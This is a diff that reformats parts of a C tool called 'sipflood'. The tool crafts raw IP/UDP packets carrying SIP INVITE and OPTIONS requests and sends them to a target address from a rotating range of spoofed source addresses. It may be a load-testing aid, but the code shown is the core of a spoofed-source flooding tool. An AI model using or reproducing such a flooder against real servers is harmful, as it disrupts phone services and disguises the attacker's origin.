@@ -31,16 +31,14 @@ static uint64_t now_ns(void)
 	return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
 }
 
-static int num(const char *what, const char *s, unsigned long max,
-	       unsigned long *out)
+static int num(const char *what, const char *s, unsigned long max, unsigned long *out)
 {
 	char *end;
 
 	errno = 0;
 	*out = strtoul(s, &end, 10);
 	if (errno || !*s || *end || *out > max) {
-		fprintf(stderr, "sipflood: %s: '%s' is not a number 0-%lu\n",
-			what, s, max);
+		fprintf(stderr, "sipflood: %s: '%s' is not a number 0-%lu\n", what, s, max);
 		return -1;
 	}
 	return 0;
@@ -55,19 +53,19 @@ static void usage(FILE *f)
 int main(int argc, char **argv)
 {
 	static const struct option opts[] = {
-		{ "dst", required_argument, NULL, 'd' },
-		{ "dport", required_argument, NULL, 'p' },
-		{ "src-base", required_argument, NULL, 's' },
-		{ "sources", required_argument, NULL, 'n' },
-		{ "packets", required_argument, NULL, 'c' },
-		{ "seconds", required_argument, NULL, 't' },
-		{ "help", no_argument, NULL, 'h' },
-		{ 0 },
+		{"dst", required_argument, NULL, 'd'},
+		{"dport", required_argument, NULL, 'p'},
+		{"src-base", required_argument, NULL, 's'},
+		{"sources", required_argument, NULL, 'n'},
+		{"packets", required_argument, NULL, 'c'},
+		{"seconds", required_argument, NULL, 't'},
+		{"help", no_argument, NULL, 'h'},
+		{0},
 	};
 	unsigned long dport = 5060, sources = 1000, packets = 100000, secs = 5;
 	unsigned long sent = 0, invites = 0, options = 0, v;
-	struct in_addr dst = { 0 }, base = { 0 };
-	struct sockaddr_in to = { .sin_family = AF_INET };
+	struct in_addr dst = {0}, base = {0};
+	struct sockaddr_in to = {.sin_family = AF_INET};
 	uint8_t pkt[1500];
 	char src_txt[INET_ADDRSTRLEN], dst_txt[INET_ADDRSTRLEN];
 	uint64_t start, end;
@@ -78,14 +76,17 @@ int main(int argc, char **argv)
 		case 'd':
 			have_dst = inet_pton(AF_INET, optarg, &dst) == 1;
 			if (!have_dst) {
-				fprintf(stderr, "sipflood: --dst: '%s' is not an IPv4 address\n", optarg);
+				fprintf(stderr, "sipflood: --dst: '%s' is not an IPv4 address\n",
+					optarg);
 				return 2;
 			}
 			break;
 		case 's':
 			have_src = inet_pton(AF_INET, optarg, &base) == 1;
 			if (!have_src) {
-				fprintf(stderr, "sipflood: --src-base: '%s' is not an IPv4 address\n", optarg);
+				fprintf(stderr,
+					"sipflood: --src-base: '%s' is not an IPv4 address\n",
+					optarg);
 				return 2;
 			}
 			break;
@@ -138,7 +139,7 @@ int main(int argc, char **argv)
 		unsigned long i = sent % sources, round = sent / sources;
 		int invite = !(round & 1);
 		const char *m = invite ? "INVITE" : "OPTIONS";
-		struct in_addr src = { htonl(ntohl(base.s_addr) + (uint32_t)i) };
+		struct in_addr src = {htonl(ntohl(base.s_addr) + (uint32_t)i)};
 		int n;
 		ssize_t w;
 
@@ -156,9 +157,8 @@ int main(int argc, char **argv)
 			     "Contact: <sip:flood@%s:5060>\r\n"
 			     "User-Agent: sipflood\r\n"
 			     "Content-Length: 0\r\n\r\n",
-			     m, 100 + i % 900, dst_txt, src_txt, sent, src_txt,
-			     sent, 100 + i % 900, dst_txt, sent, src_txt, m,
-			     src_txt);
+			     m, 100 + i % 900, dst_txt, src_txt, sent, src_txt, sent, 100 + i % 900,
+			     dst_txt, sent, src_txt, m, src_txt);
 		memset(ip, 0, sizeof(*ip) + sizeof(*udp));
 		ip->version = 4;
 		ip->ihl = 5;
@@ -171,8 +171,8 @@ int main(int argc, char **argv)
 		udp->source = htons(5060);
 		udp->dest = htons((uint16_t)dport);
 		udp->len = htons((uint16_t)(sizeof(*udp) + n));
-		w = sendto(fd, pkt, sizeof(*ip) + sizeof(*udp) + n, 0,
-			   (struct sockaddr *)&to, sizeof(to));
+		w = sendto(fd, pkt, sizeof(*ip) + sizeof(*udp) + n, 0, (struct sockaddr *)&to,
+			   sizeof(to));
 		if (w < 0) {
 			if (errno == ENOBUFS || errno == EAGAIN)
 				continue; /* not sent: retry, not counted */
@@ -187,8 +187,8 @@ int main(int argc, char **argv)
 			options++;
 	}
 	v = (unsigned long)((now_ns() - start) / 1000000);
-	printf("sent=%lu invite=%lu options=%lu sources=%lu ms=%lu\n", sent,
-	       invites, options, sources < sent ? sources : sent, v);
+	printf("sent=%lu invite=%lu options=%lu sources=%lu ms=%lu\n", sent, invites, options,
+	       sources < sent ? sources : sent, v);
 	close(fd);
 	return 0;
 }
